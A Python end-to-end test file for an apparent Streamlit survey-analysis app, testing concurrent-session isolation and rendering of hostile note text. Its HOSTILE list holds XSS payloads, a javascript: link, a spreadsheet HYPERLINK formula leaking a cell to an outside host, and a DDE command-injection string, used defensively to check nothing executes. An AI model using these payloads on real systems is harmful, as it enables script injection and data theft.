"""Several people at once (the team exploring while the projector presents), and hostile note text, in the real server.

The concurrency test speaks Streamlit's own WebSocket protocol (the browser's BackMsg/ForwardMsg protobufs) so that
twenty sessions fit on a 2-core machine; the isolation and hostile-text tests use Chromium.
"""

from __future__ import annotations

import asyncio
import time
from concurrent.futures import ThreadPoolExecutor

import pyarrow as pa
import pyarrow.parquet as pq
import pytest
import websockets
from playwright.sync_api import expect
from streamlit.proto.BackMsg_pb2 import BackMsg
from streamlit.proto.ForwardMsg_pb2 import ForwardMsg

from analysis.filters import Filters, apply_filters
from analysis.participation import headline
from analysis.privacy import coarsen
from analysis.settings import settings
from loaders import load_export
from tests.e2e.harness import SAMPLE, browser_visit, choose, metric_value, run_folder, running_server

pytestmark = pytest.mark.timeout(240)
SESSIONS, RERUNS, DEADLINE_S = 20, 3, 180
PAGES = ["", "participation", "themes", "equity_gaps", "present"]
REGIONS = ["NWE", "CEE", "LAC", "SSA", "MENA", "SA", "ESEAP", "NA"]


def expected_participants(export, region: str) -> str:
    """The Overview's count of participants under a region filter; a region of fewer than k participants is shown
    as its merged group (analysis/privacy.py)."""
    export = coarsen(export, settings().min_group_size)
    label, members = export.merged.get("region", ("", ()))
    region = label if region in members else region
    notes, people = apply_filters(export.contributions, export.participants, Filters(region=(region,)))
    return f"{headline(notes, people)['participants']:,}"


async def one_run(ws, query: str, page: str) -> tuple[int, dict[str, str], list[str]]:
    """Ask for a rerun as the browser does; collect metrics and exceptions until the script finishes."""
    message = BackMsg()
    message.rerun_script.query_string = query
    message.rerun_script.page_name = page
    await ws.send(message.SerializeToString())
    metrics, exceptions = {}, []
    while True:
        forward = ForwardMsg.FromString(await ws.recv())
        kind = forward.WhichOneof("type")
        if kind == "delta" and forward.delta.WhichOneof("type") == "new_element":
            element = forward.delta.new_element
            if element.WhichOneof("type") == "metric":
                metrics[element.metric.label] = element.metric.body
            elif element.WhichOneof("type") == "exception":
                exceptions.append(element.exception.message)
            elif element.WhichOneof("type") == "alert" and element.alert.format == 1:  # ERROR
                exceptions.append(element.alert.body)
        if kind == "script_finished":
            return forward.script_finished, metrics, exceptions


async def session(base: str, number: int) -> list[tuple]:
    region = REGIONS[number % len(REGIONS)]
    results = []
    async with websockets.connect(
        base.replace("http", "ws") + "/_stcore/stream", subprotocols=["streamlit"], max_size=None, open_timeout=30
    ) as ws:
        for run in range(RERUNS):
            page = PAGES[(number + run) % len(PAGES)] if run else ""  # every session starts on the Overview
            status, metrics, exceptions = await one_run(ws, f"region={region}", page)
            results.append((region, page, status, metrics, exceptions))
    return results


def test_twenty_concurrent_sessions_keep_answering_each_with_its_own_filters(server):
    sample = load_export(str(SAMPLE))

    async def everyone():
        return await asyncio.wait_for(asyncio.gather(*[session(server, i) for i in range(SESSIONS)]), DEADLINE_S)

    started = time.monotonic()
    # In its own thread: Playwright's sync API keeps an event loop running in this one.
    with ThreadPoolExecutor(1) as pool:
        outcomes = pool.submit(asyncio.run, everyone()).result(timeout=DEADLINE_S + 30)
    elapsed = time.monotonic() - started
    assert len(outcomes) == SESSIONS and all(len(runs) == RERUNS for runs in outcomes)
    for runs in outcomes:
        for region, page, status, metrics, exceptions in runs:
            assert status == ForwardMsg.ScriptFinishedStatus.FINISHED_SUCCESSFULLY, (region, page, status)
            assert not exceptions, (region, page, exceptions)
            if page == "":  # the Overview: this session's own filter, whatever the other nineteen chose
                assert metrics["Participants"] == expected_participants(sample, region), (region, metrics)
    print(f"{SESSIONS} sessions x {RERUNS} reruns answered in {elapsed:.1f} s")


def test_a_filter_chosen_in_one_browser_never_changes_another(browser, server):
    sample = load_export(str(SAMPLE))
    everyone = f"{headline(sample.contributions, sample.participants)['participants']:,}"
    with browser_visit(browser, server) as team, browser_visit(browser, server) as projector:
        projector.open("/")
        team.open("/")
        choose(team.page, "Region", "SSA")
        expect(metric_value(team.page, "Participants")).to_have_text(expected_participants(sample, "SSA"))
        projector.page.reload()
        projector.settle()
        expect(metric_value(projector.page, "Participants")).to_have_text(everyone)
        assert "region=" not in projector.page.url


HOSTILE = [
    "<script>window.__pwned = 1; alert('script')</script>",
    "<img src=x onerror=\"window.__pwned = 1; alert('img')\">",
    "![tracker](http://192.0.2.1/pixel.png) and [a link](javascript:alert('md'))",
    '=HYPERLINK("http://192.0.2.1/leak?"&A1, "click")',
    "+cmd|' /C calc'!A0",
    "مرحبا بالعالم — نص من اليمين إلى اليسار، مع English في الوسط",
    "Zalgo z̸̢̛̬a̷͙͒l̴̰̈g̶̣̈́o̵̧͝ and emoji 🌍🏳️‍🌈👩🏽‍💻",
    "NUL\x00 and bell\x07 and escape\x1b[31m red",
    "x" * 1_000_000,
]


@pytest.fixture(scope="module")
def hostile_server(tmp_path_factory):
    folder = tmp_path_factory.mktemp("hostile") / "export"
    folder.mkdir()
    n = len(HOSTILE)
    pq.write_table(
        pa.table(
            {
                "contribution_id": [f"h{i}" for i in range(n)],
                "text": HOSTILE,
                "question": ["Q1"] * n,
                "round": [1] * n,
                "table": ["<b>T1</b>"] * n,
                "themes": [["healthy_inclusive_communities"]] * n,
                "direction": [["KE3"]] * n,
                "region": ["SSA"] * n,
                "community": ["<img src=x onerror=alert(1)>"] * n,
            }
        ),
        folder / "contributions.parquet",
    )
    with running_server(run_folder() / "server-hostile.log", data=folder) as base:
        yield base


@pytest.mark.parametrize(
    "path", ["/", "/themes?theme=healthy_inclusive_communities", "/participation", "/present?slides=numbers", "/data"]
)
def test_hostile_note_text_runs_nothing_and_loads_nothing(browser, hostile_server, path):
    with browser_visit(browser, hostile_server) as seen:
        dialogs = []
        seen.page.on("dialog", lambda dialog: (dialogs.append(dialog.message), dialog.dismiss()))
        seen.open(path)
        assert dialogs == []
        assert seen.page.evaluate("() => window.__pwned") is None
        assert seen.page.locator("img[src='x']").count() == 0
        seen.assert_clean()  # no error box, no console error, no request beyond 127.0.0.1
